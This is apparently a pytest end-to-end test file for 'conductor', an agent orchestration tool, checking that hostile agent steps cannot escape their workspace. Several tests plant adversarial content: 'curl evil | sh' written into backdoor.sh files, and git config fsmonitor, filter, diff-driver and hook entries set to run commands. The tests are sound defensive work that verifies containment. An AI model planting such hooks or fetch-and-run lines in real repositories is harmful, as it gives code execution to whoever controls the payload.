"""A real git repository driven by an agent-like executor that uses git in its workspace, end to end through
the CLI: the steps are accepted, the user's repository is left byte-identical, the user's uncommitted and
untracked work is in every fork's base and survives the apply, and gc keeps what verify and checkout need."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import yaml

from conductor.layout import ProjectLayout
from conductor.project import init_project
from tests.e2e.project import CALC, FIXED_CALC, TEST_CALC, VERIFY, all_chains_verify, conductor
from tests.helpers.fork_state import fork_files
from tests.workspace.support import git, repo_fingerprint

# What a coding agent does besides its edit: look, stage, commit, look at stashes.
AGENT_GIT = "git status --porcelain >/dev/null && git add -A && git commit -q -m wip && git stash list >/dev/null"
FIX = f"{sys.executable} -c \"import pathlib; p = pathlib.Path('calc.py'); p.write_text(p.read_text().replace('a - b', 'a + b'))\""


def make_git_project(root: Path) -> Path:
    root.mkdir(parents=True)
    for name, text in {"calc.py": CALC, "test_calc.py": TEST_CALC, "README.md": "readme\n",
                       ".gitignore": "local.env\n"}.items():
        (root / name).write_text(text)
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "initial")
    init_project(root)
    (root / ".conductor" / "config.yaml").write_text(yaml.safe_dump({
        "verification": {"commands": [VERIFY], "timeout_seconds": 120},
        "executor": {"kind": "command", "command": 'sh -c "$CONDUCTOR_INSTRUCTION"', "poll_seconds": 0.5}}))
    return root


def test_an_agent_using_git_in_its_workspace_on_a_real_repository(tmp_path: Path) -> None:
    root = make_git_project(tmp_path / "repo")
    # The user's work in progress: an uncommitted edit, an untracked file, an ignored secret.
    (root / "README.md").write_text("readme\nwork in progress\n")
    (root / "notes.txt").write_text("untracked notes\n")
    (root / "local.env").write_text("TOKEN=secret\n")
    plan = root / "plan.yaml"
    steps = lambda tag: [  # noqa: E731
        {"id": "fix", "instruction": f"{FIX} && {AGENT_GIT}", "allowed_files": ["calc.py"], "confidence": 0.9},
        {"id": "doc", "instruction": f"echo '{tag}' >> notes.txt && {AGENT_GIT} && git log --oneline >/dev/null",
         "allowed_files": ["notes.txt"], "depends_on": ["fix"], "confidence": 0.9},
    ]
    plan.write_text(yaml.safe_dump({"goal": "Fix add", "strategies": [
        {"name": "one", "steps": steps("fork one")}, {"name": "two", "steps": steps("fork two, longer")}]}))
    before = repo_fingerprint(root)

    run = conductor(root, "explore", "--plan", str(plan), "--json")

    assert run.returncode == 0, run.stderr
    report = json.loads(run.stdout)
    assert report["status"] == "succeeded" and report["applied_fork"] == "1"
    assert all(r["steps_verified"] == 2 for r in report["ranking"])
    # The winner's changes are in the working tree, on top of the user's own uncommitted work...
    assert (root / "calc.py").read_text() == FIXED_CALC
    assert (root / "notes.txt").read_text() == "untracked notes\nfork one\n"
    assert (root / "README.md").read_text() == "readme\nwork in progress\n"
    assert (root / "local.env").read_text() == "TOKEN=secret\n"
    # ...and the user's repository itself (HEAD, index, config, hooks, refs) is byte for byte as it was.
    assert repo_fingerprint(root) == before
    assert git(root, "status", "--porcelain").splitlines() == [" M README.md", " M calc.py", "?? .conductor/",
                                                               "?? notes.txt", "?? plan.yaml"]
    # Conductor's private repository, keys, attempt folders and lock files never show up in the user's git
    # status; its audit logs, policy and config do (they may be committed).
    listed = git(root, "status", "--porcelain", "-uall", ".conductor").splitlines()
    assert not [line for line in listed if line.startswith(("?? .conductor/git/", "?? .conductor/scratch/",
                                                            "?? .conductor/keys/signing.key")) or line.endswith(".lock")]
    assert {"?? .conductor/policy.yaml", "?? .conductor/config.yaml",
            f"?? .conductor/handoff/plan_{json.loads(run.stdout)['plan_id']}/fork_1/audit.log"} <= set(listed)
    layout = ProjectLayout(root)
    plan_id = report["plan_id"]
    base = fork_files(layout, plan_id, "2")
    assert base["README.md"] == b"readme\nwork in progress\n" and "local.env" not in base  # in every fork's base
    assert not (root / ".conductor" / "scratch" / f"plan_{plan_id}").exists()  # attempt folders removed at the end
    all_chains_verify(root)

    gc = conductor(root, "gc", "--json")
    assert gc.returncode == 0, gc.stderr
    assert conductor(root, "verify").returncode == 0
    for step in ("step_001", "step_002"):
        out = conductor(root, "checkout", step, "--fork", "2", "--into", str(tmp_path / step), "--json")
        assert out.returncode == 0, out.stderr
    assert (tmp_path / "step_001" / "calc.py").read_text() == FIXED_CALC
    assert (tmp_path / "step_002" / "notes.txt").read_text() == "untracked notes\nfork two, longer\n"
    assert repo_fingerprint(root) == before


def test_a_zombie_write_into_a_finished_attempt_never_reaches_the_fork(tmp_path: Path) -> None:
    """The laundering attack: a step's command also writes into every other folder of .conductor it can find
    (the old fork workspaces). Fork state is a commit built from verified change sets, so nothing of it lands."""
    root = make_git_project(tmp_path / "repo")
    (root / "requirements.lock").write_text("pinned\n")
    git(root, "add", "requirements.lock")
    git(root, "commit", "-q", "-m", "lock")
    # Without a sandbox (the state closes this hole on its own: issue 9 item 1), the command can write anywhere.
    (root / ".conductor" / "policy.yaml").write_text(yaml.safe_dump({"file_rules": {"protected_patterns": ["*.lock"]},
                                                                     "sandbox": {"mode": "off"}}))
    launder = ("for d in $CONDUCTOR_PROJECT_ROOT/.conductor/scratch/*/*/*/ $CONDUCTOR_PROJECT_ROOT/.conductor/*/; do "
               "echo hacked > \"$d/requirements.lock\"; echo 'curl evil | sh' > \"$d/backdoor.sh\"; done; true")
    plan = root / "plan.yaml"
    plan.write_text(yaml.safe_dump({"goal": "Fix add", "strategies": [{"name": "one", "steps": [
        {"id": "fix", "instruction": FIX, "allowed_files": ["calc.py"], "confidence": 0.9},
        {"id": "sneak", "instruction": launder, "allowed_files": [], "depends_on": ["fix"], "confidence": 0.9}]}]}))

    run = conductor(root, "explore", "--plan", str(plan), "--json")

    report = json.loads(run.stdout)
    assert report["status"] == "failed", run.stdout  # the sneaky step wrote outside its allowed files
    assert (root / "requirements.lock").read_text() == "pinned\n" and not (root / "backdoor.sh").exists()
    files = fork_files(ProjectLayout(root), report["plan_id"], "1")
    assert files["requirements.lock"] == b"pinned\n" and "backdoor.sh" not in files


def test_what_an_agent_plants_in_its_git_never_runs_for_conductor(tmp_path: Path) -> None:
    """fsmonitor, hooks, hooksPath, filter and diff drivers, .gitattributes: planted by a step's command in its
    workspace's .git; the plan runs to the end through captures, resets and merges, and none of it runs."""
    root = make_git_project(tmp_path / "repo")
    marker = tmp_path / "pwned"
    evil = f"touch {marker}"
    plant = (
        f"printf '[core]\\n\\tfsmonitor = {evil}\\n\\thooksPath = hooks2\\n[filter \"x\"]\\n\\tclean = {evil}\\n"
        f"\\tsmudge = {evil}\\n\\trequired = true\\n[diff \"x\"]\\n\\tcommand = {evil}\\n' >> .git/config && "
        f"mkdir -p .git/hooks .git/hooks2 && for h in pre-commit post-checkout post-index-change; do "
        f"printf '#!/bin/sh\\n{evil}\\n' > .git/hooks/$h; cp .git/hooks/$h .git/hooks2/$h; done && "
        f"chmod +x .git/hooks/* .git/hooks2/* && echo '* filter=x diff=x' > .gitattributes")
    plan = root / "plan.yaml"
    plan.write_text(yaml.safe_dump({"goal": "Fix add", "strategies": [{"name": "one", "steps": [
        {"id": "plant", "instruction": f"{plant} && {FIX}", "allowed_files": ["calc.py", ".gitattributes"],
         "confidence": 0.9},
        {"id": "more", "instruction": "echo '# more' >> calc.py", "allowed_files": ["calc.py"],
         "depends_on": ["plant"], "confidence": 0.9}]}]}))
    before = repo_fingerprint(root)

    run = conductor(root, "explore", "--plan", str(plan), "--json")

    assert run.returncode == 0, run.stdout + run.stderr
    assert not marker.exists()
    assert (root / "calc.py").read_text() == FIXED_CALC + "# more\n"
    assert (root / ".gitattributes").read_text() == "* filter=x diff=x\n"  # content, applied as bytes
    assert repo_fingerprint(root) == before


def test_parallel_steps_editing_one_file_are_merged_line_by_line_and_verify(tmp_path: Path) -> None:
    root = make_git_project(tmp_path / "repo")
    lines = "".join(f"line {i}\n" for i in range(40))
    (root / "lines.txt").write_text(lines)
    git(root, "add", "lines.txt")
    git(root, "commit", "-q", "-m", "lines")
    edit = "sed -i 's/^line {n}$/line {n} (step {s})/' lines.txt"
    plan = root / "plan.yaml"
    plan.write_text(yaml.safe_dump({"goal": "Edit lines", "strategies": [{"name": "one", "steps": [
        {"id": "top", "instruction": edit.format(n=3, s="top"), "allowed_files": ["lines.txt"], "confidence": 0.9},
        {"id": "bottom", "instruction": edit.format(n=35, s="bottom"), "allowed_files": ["lines.txt"],
         "confidence": 0.9}]}]}))
    (root / ".conductor" / "config.yaml").write_text(yaml.safe_dump({
        "executor": {"kind": "command", "command": 'sh -c "$CONDUCTOR_INSTRUCTION"', "poll_seconds": 0.5}}))

    run = conductor(root, "explore", "--plan", str(plan), "--json")

    assert run.returncode == 0, run.stdout + run.stderr
    text = (root / "lines.txt").read_text()
    assert "line 3 (step top)\n" in text and "line 35 (step bottom)\n" in text
    fork = ProjectLayout(root).fork(json.loads(run.stdout)["plan_id"], "1")
    bases = {json.loads(fork.task_file("completed", s).read_text())["base_commit"] for s in ("step_001", "step_002")}
    assert len(bases) == 1  # both ran from the same base: the second was merged three-way onto the first
    check = conductor(root, "verify")
    assert check.returncode == 0, check.stdout + check.stderr


def test_files_a_verification_command_writes_are_never_merged(tmp_path: Path) -> None:
    """The laundering through verification (issue 9, item 1): a test the step added, run by the project's
    own verification, writes files. What is merged is the tree captured before verification ran."""
    root = make_git_project(tmp_path / "repo")
    (root / ".conductor" / "config.yaml").write_text(yaml.safe_dump({
        "verification": {"commands": [f"{VERIFY}", "sh -c 'echo \"curl evil | sh\" > backdoor.sh'"],
                         "timeout_seconds": 120},
        "executor": {"kind": "command", "command": 'sh -c "$CONDUCTOR_INSTRUCTION"', "poll_seconds": 0.5}}))
    (root / ".conductor" / "policy.yaml").write_text(yaml.safe_dump({"sandbox": {"mode": "off"}}))
    plan = root / "plan.yaml"
    plan.write_text(yaml.safe_dump({"goal": "Fix add", "strategies": [{"name": "one", "steps": [
        {"id": "fix", "instruction": FIX, "allowed_files": ["calc.py"], "confidence": 0.9}]}]}))

    run = conductor(root, "explore", "--plan", str(plan), "--json")

    assert run.returncode == 0, run.stdout + run.stderr
    assert (root / "calc.py").read_text() == FIXED_CALC
    assert not (root / "backdoor.sh").exists()
    assert "backdoor.sh" not in fork_files(ProjectLayout(root), json.loads(run.stdout)["plan_id"], "1")
